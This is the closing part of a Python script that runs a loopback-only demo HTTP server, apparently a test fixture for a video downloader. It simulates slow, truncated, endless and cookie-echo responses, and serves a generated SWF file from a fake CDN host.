            self.end_headers()
            step = 16 << 10 if kind == "slow" else 3000
            for second in range(90):
                chunk = movie[second * step:(second + 1) * step] if kind == "slow" else b"\0" * step
                if not chunk:
                    break
                self.wfile.write(chunk)
                self.wfile.flush()
                time.sleep(1)
        except OSError:
            pass  # the program gave up on it
        self.close_connection = True

    def flood_host(self, path, query):
        """The answer of a flooding movie's ask: its megabytes at 1.2 MB a
        second, its length said; cut=N sends only N of them, then closes, or
        first holds the connection hold=S seconds; endless=1 answers for ever.
        /cookie?set=V answers with the cookies it was sent, and sets movie=V."""
        if query.get("endless"):
            # 5,000 bytes every 2 s, for ever: enough for the stall watch.
            try:
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                while True:
                    self.wfile.write(b"a" * 5000)
                    self.wfile.flush()
                    time.sleep(2)
            except OSError:
                pass  # the program gave up on it
            self.close_connection = True
            return
        if path == "/cookie":
            self.send(200, self.headers.get("Cookie", "").encode(), "text/plain",
                      [("Set-Cookie", "movie=%s; Path=/" % query.get("set", [""])[0])])
            return
        size = int(query.get("mb", ["1"])[0]) << 20
        sent = min(size, int(query.get("cut", [str(size >> 20)])[0]) << 20)
        try:
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Content-Length", str(size))
            self.end_headers()
            chunk = b"a" * (120 << 10)
            for offset in range(0, sent, len(chunk)):
                self.wfile.write(chunk[:sent - offset])
                self.wfile.flush()
                time.sleep(0.1)
            time.sleep(int(query.get("hold", ["0"])[0]))
        except OSError:
            pass  # the program gave up on it
        self.close_connection = True

    def cdn_host(self, path, query):
        cors = [("Access-Control-Allow-Origin", "*")] if query.get("cors") == ["True"] else []
        self.send(200, make_swf(movie_colour(query.get("vid", [""])[0])), "application/x-shockwave-flash", cors)

    def forum_host(self, path, query):
        self.send(200, page("Brightfold 论坛", "<p>欢迎来到 Brightfold 论坛</p>"))

    def probe_host(self, path, query):
        self.send(200, page("百度一下，你就知道", "<p>probe</p>"))


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--log")
    args = parser.parse_args()
    if args.log:
        DemoSite.log_file = open(args.log, "a", encoding="utf-8")
    server = ThreadingHTTPServer(("127.0.0.1", args.port), DemoSite)
    server.daemon_threads = True
    print("PORT %d %s" % (server.server_address[1], LOOPBACK_NAME), flush=True)
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
